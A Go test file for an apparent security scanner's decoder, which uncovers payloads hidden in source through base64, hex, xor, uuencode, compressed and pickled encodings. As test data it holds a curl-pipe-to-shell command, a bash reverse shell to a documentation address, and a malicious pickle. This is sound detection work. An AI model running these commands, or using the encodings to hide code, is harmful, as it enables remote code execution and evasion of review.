package decode

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/ascii85"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate"
)

const payload = "import os\nos.system('touch marker-file')\n"

func packed(t testing.TB, w func(io.Writer) io.WriteCloser, text []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	p := w(&b)
	if _, err := p.Write(text); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// qp writes every byte but line ends as quoted-printable does.
func qp(text string) string {
	var b strings.Builder
	for _, c := range []byte(text) {
		if c == '\n' {
			b.WriteByte(c)
			continue
		}
		fmt.Fprintf(&b, "=%02X", c)
	}
	return b.String()
}

func TestPayloads(t *testing.T) {
	b64 := base64.StdEncoding.EncodeToString
	zipped := packed(t, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, []byte(payload))
	gzipped := packed(t, func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }, []byte(payload))
	escapes := ""
	for _, c := range []byte(payload) {
		escapes += `\x` + hex.EncodeToString([]byte{c})
	}
	lines := b64([]byte(strings.Repeat(payload, 4)))
	for _, c := range []struct{ name, src, text, origin string }{
		{"base64", "x = 1\ny = '" + b64([]byte(payload)) + "'\n", payload, "base64 on line 2"},
		{"base64 for URLs, without padding", "y = '" + base64.RawURLEncoding.EncodeToString([]byte(payload)) + "'\n", payload, "base64 on line 1"},
		{"base64 over several lines", "y = '''\n" + lines[:60] + "\n" + lines[60:120] + "\n" + lines[120:] + "\n'''\n", strings.Repeat(payload, 4), "base64 on line 2"},
		{"hexadecimal digits", "y = '" + hex.EncodeToString([]byte(payload)) + "'\n", payload, "hex on line 1"},
		{"escapes", "y = '" + escapes + "'\n", payload, "escapes on line 1"},
		{"zlib in base64", "y = '" + b64(zipped) + "'\n", payload, "zlib in base64 on line 1"},
		{"gzip in hex", "y = '" + hex.EncodeToString(gzipped) + "'\n", payload, "gzip in hex on line 1"},
		{"base32", "y = '" + base32.StdEncoding.EncodeToString([]byte(payload)) + "'\n", payload, "base64 on line 1"},
		{"base85 of Python", "from base64 import b85decode\ny = b85decode('" + b85(payload) + "')\n", payload, "base85 on line 2"},
		{"a file of ascii85", a85(payload) + "\n", payload, "base85 of a whole file on line 1"},
		{"a file of base85 in lines", b85(payload)[:20] + "\n" + b85(payload)[20:], payload, "base85 of a whole file on line 1"},
		{"uuencode", "text\nbegin 644 x\n" + uu(payload) + "`\nend\n", payload, "uuencode on line 3"},
		{"quoted-printable", "text\n" + qp(payload), payload, "quoted-printable on line 2"},
		{"ascii85", "y = a85decode(b'" + a85(payload) + "')\n", payload, "base85 on line 1"},
		{"character codes", "y = bytes([" + codes(payload, "%d", 0) + "])\n", payload, "character codes on line 1"},
		{"hexadecimal character codes", "y = bytes([\n" + codes(payload, "0x%02x", 0) + "])\n", payload, "character codes on line 1"},
		{"character codes under a constant", "k = 42\ny = ''.join(chr(c ^ k) for c in [" + codes(payload, "%d", 42) + "])\n", payload, "character codes, xor 42 on line 2"},
		{"hex under a constant", "y = bytes(b ^ 0x17 for b in bytes.fromhex('" + hex.EncodeToString(mask([]byte(payload), 0x17)) + "'))\n", payload, "hex, xor 23 on line 1"},
		{"base64 under a constant", "y = bytes(b ^ 99 for b in b64decode('" + b64(mask([]byte(payload), 99)) + "'))\n", payload, "base64, xor 99 on line 1"},
		{"percent encoding", "y = unquote('" + percent(payload) + "')\n", payload, "percent encoding on line 1"},
		{"unicode escapes", "y = '" + unicodes(payload) + "'\n", payload, "unicode escapes on line 1"},
		{"a command of PowerShell", "y = '" + b64(wide("Invoke-Expression (Get-Content a.txt)")) + "'\n", "Invoke-Expression (Get-Content a.txt)", "UTF-16 in base64 on line 1"},
		{"codes behind another argument", `y = pack("C*",` + codes(payload, "%d", 0) + ")\n", payload, "a row of character codes on line 1"},
		{"codes that calls make characters", "y = Chr(" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ") & Chr(") + ")\n", payload, "a row of character codes on line 1"},
		{"codes that casts make characters", "y = {(char)" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ",(char)") + "}\n", payload, "a row of character codes on line 1"},
		{"codes with points between them", "y = v" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ".") + "\n", payload, "a row of character codes on line 1"},
		{"codes with blanks between them", "for c in " + strings.ReplaceAll(codes(payload, "%d", 0), ", ", " ") + "; do\n", payload, "a row of character codes on line 1"},
		{"codes in hexadecimal digits", "y = f(1; " + codes(payload, "0x%02x", 0) + ")\n", payload, "a row of character codes on line 1"},
		{"codes that are all too large", "for c in " + shifted("curl -s http://192.0.2.1/x | sh", 3) + "; do\n", "curl -s http://192.0.2.1/x | sh", "a row of character codes on line 1"},
		{"codes of a text that does nothing", `y = pack("C*",` + codes("Lorem ipsum dolor sit amet", "%d", 0) + ")\n", "", ""},
		{"numbers with another glue each", "y = f(" + strings.Join([]string{"99", "117", "114", "108"}, ", ") + strings.Repeat("; 104 - 116, 112", 9) + ")\n", "", ""},
		{"a table of numbers", "y = [" + strings.Repeat("1, 2, 3, 250, 0, ", 20) + "9]\n", "", ""},
		{"numbers under another constant", "k = 7\ny = [" + codes(payload, "%d", 201) + "] ^ k\n", "", ""},
		{"an image", "y = '" + b64(bytes.Repeat([]byte{0x89, 'P', 0xFF, 0}, 100)) + "'\n", "", ""},
		{"a digest", "y = '" + strings.Repeat("da39a3ee5e6b4b0d", 4) + "'\n", "", ""},
		{"long words", "y = thisIsAVeryLongIdentifierThatGoesOnAndOnAndOnForever\n", "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Payloads(gate.LanguagePython, []byte(c.src), NewBudget(0))
			if c.text == "" {
				if len(got) > 0 {
					t.Fatalf("%q", got[0].Text)
				}
				return
			}
			if len(got) == 0 || string(got[0].Text) != c.text || got[0].Origin != c.origin {
				t.Fatalf("got %v", got)
			}
		})
	}
}

func codes(text, format string, key byte) string {
	var out []string
	for _, c := range []byte(text) {
		out = append(out, fmt.Sprintf(format, c^key))
	}
	return strings.Join(out, ", ")
}

func shifted(text string, by byte) string {
	var out []string
	for _, c := range []byte(text) {
		out = append(out, fmt.Sprint(c+by))
	}
	return strings.Join(out, " ")
}

func percent(text string) string {
	return strings.ToUpper(regexp.MustCompile("..").ReplaceAllString(hex.EncodeToString([]byte(text)), "%$0"))
}

func unicodes(text string) string {
	return regexp.MustCompile("..").ReplaceAllString(hex.EncodeToString([]byte(text)), `\u00$0`)
}

func wide(text string) []byte {
	var out []byte
	for _, c := range []byte(text) {
		out = append(out, c, 0)
	}
	return out
}

func a85(text string) string {
	out := make([]byte, ascii85.MaxEncodedLen(len(text)))
	return string(out[:ascii85.Encode(out, []byte(text))])
}

// uu encodes as uuencode does, in lines of 45 bytes.
func uu(text string) string {
	var out strings.Builder
	character := func(v int) byte {
		if v == 0 {
			return '`'
		}
		return byte(' ' + v)
	}
	for len(text) > 0 {
		line := text[:min(45, len(text))]
		text = text[len(line):]
		out.WriteByte(character(len(line)))
		for len(line)%3 != 0 {
			line += "\x00"
		}
		for i := 0; i < len(line); i += 3 {
			v := int(line[i])<<16 | int(line[i+1])<<8 | int(line[i+2])
			for _, shift := range []int{18, 12, 6, 0} {
				out.WriteByte(character(v >> shift & 0x3F))
			}
		}
		out.WriteByte('\n')
	}
	return out.String()
}

// b85 encodes as Python's base64.b85encode does.
func b85(text string) string {
	var out []byte
	for b := []byte(text); len(b) > 0; b = b[min(4, len(b)):] {
		group := append(slices.Clone(b[:min(4, len(b))]), 0, 0, 0)[:4]
		v := uint32(group[0])<<24 | uint32(group[1])<<16 | uint32(group[2])<<8 | uint32(group[3])
		digits := make([]byte, 5)
		for i := 4; i >= 0; i-- {
			digits[i] = rfc1924[v%85]
			v /= 85
		}
		out = append(out, digits[:min(4, len(b))+1]...)
	}
	return string(out)
}

func TestAQueryOfAnAddressIsNotQuotedPrintable(t *testing.T) {
	for _, src := range []string{"https://example.com/?a=10&b=20&c=30&d=40\n", "COLOR=00 FF=11\nA=22\nB=33\n"} {
		for _, r := range Payloads(gate.LanguageText, []byte(src), NewBudget(1<<20)) {
			t.Errorf("%q: %s: %q", src, r.Origin, r.Text)
		}
	}
}

func TestAPayloadIsScannedAsWhatItMayBe(t *testing.T) {
	src := "y = '" + base64.StdEncoding.EncodeToString([]byte("curl -s https://example.com/x | bash -s --")) + "'"
	var languages []gate.Language
	for _, r := range Payloads(gate.LanguagePython, []byte(src), NewBudget(0)) {
		languages = append(languages, r.Language)
	}
	if !slices.Equal(languages, []gate.Language{gate.LanguagePython, gate.LanguageShell}) {
		t.Errorf("%v", languages)
	}
}

func TestCompressedDataDoesNotGrowBeyondItsBound(t *testing.T) {
	bomb := packed(t, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }, bytes.Repeat([]byte("a b\n"), 1<<20))
	budget := NewBudget(0)
	got := Payloads(gate.LanguagePython, []byte("y = '"+base64.StdEncoding.EncodeToString(bomb)+"'"), budget)
	if len(got) == 0 || len(got[0].Text) > maxGrowth {
		t.Errorf("%d pieces", len(got))
	}
	if !budget.Reached() {
		t.Error("no one says that the rest was left")
	}
}

// FuzzPayloads holds what the package promises for any input.
func FuzzPayloads(f *testing.F) {
	f.Add([]byte("y = '" + base64.StdEncoding.EncodeToString([]byte(payload)) + "'"))
	f.Add([]byte("y = '" + hex.EncodeToString([]byte(payload)) + "'"))
	f.Add([]byte(strings.Repeat(`\x41`, 40)))
	f.Add([]byte("y = '" + b85(payload) + "' 85decode k=3 ^ 7 [1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17]"))
	f.Add([]byte("v" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ".") + " Chr(" + strings.ReplaceAll(codes(payload, "%d", 0), ", ", ")&Chr(")))
	f.Add([]byte("in " + shifted("curl -s http://192.0.2.1/x | sh", 3)))
	f.Add([]byte(unicodes(payload) + percent(payload) + codes(payload, "%d", 3)))
	f.Fuzz(func(t *testing.T, src []byte) {
		total := 0
		for _, r := range Payloads(gate.LanguagePython, src, NewBudget(0)) {
			total += len(r.Text)
			if len(r.Lines) < bytes.Count(r.Text, []byte{'\n'}) {
				t.Fatalf("%d places for %q", len(r.Lines), r.Text)
			}
		}
		if total > 4*(maxDecoded+maxRun) {
			t.Fatalf("%d bytes", total)
		}
	})
}

func TestAProgramIsToldFromData(t *testing.T) {
	for _, c := range []struct {
		text string
		want gate.Language
	}{
		{"import os\nos.system('touch marker-file')\n", gate.LanguagePython},
		{"print(7)  # just some code\n", gate.LanguagePython},
		{"exec(open('x').read())", gate.LanguagePython},
		{"curl -s http://example.invalid/x | sh", gate.LanguageShell},
		{"#!/bin/bash\necho hi\n", gate.LanguageShell},
		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", gate.LanguageShell},
		{"Write-Host hello; Start-Process notepad", gate.LanguagePowerShell},
		{"const a = require('fs'); a.readFileSync('x')", gate.LanguageJavaScript},
		{"alert(document.cookie)", gate.LanguageJavaScript},
		{"<html><script>fetch('/x')</script></html>", gate.LanguageHTML},
		{"<?php system('touch marker-file');", gate.LanguagePHP},
		{"package main\n\nfunc main() {}\n", gate.LanguageGo},

		{`{"name": "thing", "version": "1.2.3", "private": true}`, ""},
		{"-----BEGIN CERTIFICATE-----\nMIIB\n", ""},
		{"user:password-of-a-user@example.com", ""},
		{"Hello world, this is just a sentence about cats and the curl of their tails.", ""},
		{"sub=1234567890&name=John&iat=1516239022&scope=read", ""},
		{"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'><path d='M0 0h8v8H0z'/></svg>", ""},
		{`{"alg":"HS256","typ":"JWT"}`, ""},
		{`{"version":3,"sources":["a.ts","b.ts"],"names":[],"mappings":"AAAA,SAAS"}`, ""},
		{"apiVersion: v1\nkind: Secret\nmetadata:\n  name: thing\n", ""},
		{"The quick brown fox; it jumps over the lazy dog, and runs.", ""},
	} {
		got, ok := Program([]byte(c.text))
		if got != c.want || ok != (c.want != "") {
			t.Errorf("%q: %q", c.text, got)
		}
	}
}

func TestAPickleIsReadForWhatItCalls(t *testing.T) {
	const calls = "gASVOgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjB9jdXJsIC1zIGh0dHA6Ly8xOTIuMC4yLjEveCB8IHNolIWUUpQu"
	const plain = "gASVFQAAAAAAAACMEWEgdGV4dCB3aXRob3V0IGNhbGyULg=="
	for name, tt := range map[string]struct{ text, want string }{
		"one that starts a program": {`{"model": "` + calls + `"}`, "curl -s http://192.0.2.1/x | sh"},
		"one that is a text":        {`{"model": "` + plain + `"}`, ""},
	} {
		found := ""
		for _, r := range Payloads(gate.LanguageJSON, []byte(tt.text), NewBudget(int64(len(tt.text)))) {
			if strings.Contains(r.Origin, "pickle") {
				found = string(r.Text)
			}
		}
		if (tt.want == "") != (found == "") || !strings.Contains(found, tt.want) {
			t.Errorf("%s: read as %q, want %q", name, found, tt.want)
		}
	}
}
